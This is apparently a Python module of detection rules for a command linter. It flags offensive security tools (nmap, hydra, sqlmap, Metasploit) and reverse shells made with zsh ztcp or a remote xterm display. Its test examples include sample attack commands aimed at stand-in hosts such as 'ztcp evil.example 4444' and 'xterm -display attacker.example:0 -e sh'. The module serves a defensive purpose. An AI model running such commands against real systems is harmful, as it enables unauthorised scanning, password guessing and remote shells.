"""Attacking other machines: offensive security tools (NE006: network scanners, password brute
forcers, exploitation frameworks) and shells handed to another host in shapes the socket
clients' rule (NE002) does not read (NE007: zsh's `ztcp`, an xterm opened on a remote display)."""

from __future__ import annotations

from collections.abc import Iterator

from .._analysis import CommandSubject
from .._model import Severity
from .._tables import Tables
from ._rule import Hit, Inspects, rule

# What each tool does to the machines it is pointed at.
_ATTACK_TOOLS = {
    "nmap": "scans hosts and ports",
    "masscan": "scans hosts and ports",
    "zmap": "scans hosts and ports",
    "rustscan": "scans hosts and ports",
    "nikto": "probes a web server for vulnerabilities",
    "hydra": "guesses passwords against a service",
    "medusa": "guesses passwords against a service",
    "ncrack": "guesses passwords against a service",
    "patator": "guesses passwords against a service",
    "crackmapexec": "attacks Windows hosts and their credentials",
    "netexec": "attacks Windows hosts and their credentials",
    "nxc": "attacks Windows hosts and their credentials",
    "sqlmap": "exploits SQL injection",
    "msfconsole": "runs exploits (Metasploit)",
    "msfvenom": "builds payloads (Metasploit)",
    "responder": "poisons name resolution to capture credentials",
}
_ONLY_ASKS = frozenset({"-h", "--help", "-V", "--version", "-v"})
_LOCAL_DISPLAYS = ("", "localhost", "127.0.0.1", "unix", "::1")


@rule(
    id="NE006",
    name="offensive-tool",
    severity=Severity.MEDIUM,
    summary="Runs an offensive security tool: a network scanner (nmap, masscan), a password brute forcer (hydra, medusa), an exploitation tool (sqlmap, Metasploit).",
    rationale="Scanning or attacking machines the user does not own is illegal in many places and trips intrusion detection; an agent should not start it on its own.",
    safer_alternative="Ask a human: penetration tests need a scope and an authorisation.",
    inspects=Inspects.COMMAND,
    commands=tuple(_ATTACK_TOOLS),
    must_match=(
        "nmap -sV -p 1-65535 192.0.2.0/24",
        "hydra -L users.txt -P words.txt ssh://192.0.2.5",
        "sqlmap -u 'https://shop.example/item?id=1' --dump",
    ),
    must_not_match=("nmap --version", "sqlmap -h", "nc -zv example.com 443"),
)
def offensive_tool(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    args = subject.args
    if not args or all(arg.value in _ONLY_ASKS for arg in args):
        return
    name = subject.name or ""
    yield Hit(subject.span, f"`{name}` {_ATTACK_TOOLS[name]}")


@rule(
    id="NE007",
    name="shell-to-remote-host",
    severity=Severity.HIGH,
    summary="Hands a shell to another host: zsh's `ztcp` socket, or an xterm opened on a remote X display.",
    rationale="`ztcp HOST PORT` with the shell's input and output redirected to the socket, or `xterm -display HOST:1`, gives whoever is on the other end a shell here: a reverse shell.",
    safer_alternative="Use ssh to reach machines; open X windows on the local display only.",
    inspects=Inspects.COMMAND,
    commands=("ztcp", "xterm", "uxterm", "rxvt", "urxvt"),
    must_match=("ztcp evil.example 4444", "xterm -display 198.51.100.7:1", "xterm -display attacker.example:0 -e sh"),
    must_not_match=("ztcp -l 8080", "ztcp -c", "xterm -display :0", "xterm -display localhost:10.0"),
)
def shell_to_remote_host(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    words = [arg.value for arg in subject.args]
    if subject.name == "ztcp":
        # `ztcp [-v] [-d FD] HOST [PORT]` connects; `-l PORT` listens, `-a FD` accepts, `-c` closes, `-L` lists.
        other = any(word is not None and word.startswith("-") and set(word[1:]) & set("lacL") for word in words)
        if words and not other:
            yield Hit(subject.span, "`ztcp` opens a socket to another host for the shell to read and write")
        return
    for index, word in enumerate(words[:-1]):
        display = words[index + 1]
        if word == "-display" and display is not None:
            host = display.rpartition(":")[0]
            if host not in _LOCAL_DISPLAYS:
                yield Hit(subject.span, f"`{subject.name}` opens a shell on the X display of `{host}`")
            return


ATTACK_RULES = (offensive_tool, shell_to_remote_host)
